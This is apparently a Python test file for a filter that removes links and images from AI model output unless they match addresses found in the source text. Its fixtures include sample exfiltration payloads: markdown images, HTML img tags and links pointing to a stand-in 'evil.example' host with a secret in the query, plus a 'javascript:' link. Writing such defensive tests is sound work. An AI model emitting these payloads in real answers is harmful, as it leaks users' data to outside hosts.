"""Addresses in what a model writes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.answers.links import without_strange_links

KNOWN = ["See https://docs.example/leave?year=2024, or ask.", "mailto:hr@docs.example"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Look ![logo](https://evil.example/p?d=secret) here.", "Look logo here."),
        ("Look ![](https://evil.example/p?d=secret) here.", "Look  here."),
        ("Look ![logo](https://docs.example/leave?year=2024) here.", "Look logo here."),
        ("Look ![logo][ref] here.\n[ref]: https://evil.example/p?d=secret", "Look logo here.\n"),
        ('Look <img src="https://evil.example/p?d=secret"> here.', "Look  here."),
        ("Read [this](https://evil.example/?d=secret).", "Read this."),
        ("Read [this](<https://evil.example/?d=secret> 'title').", "Read this."),
        ("Read [this](javascript:alert).", "Read this."),
        ("Read [this](https://docs.example/leave?year=2024).", "Read [this](https://docs.example/leave?year=2024)."),
        ("Read https://docs.example/leave?year=2024.", "Read https://docs.example/leave?year=2024."),
        ("Read https://docs.example/leave?year=2024&d=secret.", "Read "),
        ("Read https://docs.example/leave.", "Read "),
        ("Read <https://evil.example/secret> now.", "Read  now."),
        ("Write to [us](mailto:hr@docs.example).", "Write to [us](mailto:hr@docs.example)."),
        ("Leave is 25 days [1]. More [2](see there).", "Leave is 25 days [1]. More [2](see there)."),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ],
)
def test_only_links_that_stand_in_what_was_read_are_shown(text: str, shown: str) -> None:
    assert without_strange_links(text, KNOWN) == shown


@given(st.text("abc ![]()<>:/.htps?=img\n", max_size=120))
def test_no_address_is_left_whatever_stands_around_it(text: str) -> None:
    assert "evil.example" not in without_strange_links(f"{text} ![x](https://evil.example/{text})", [])
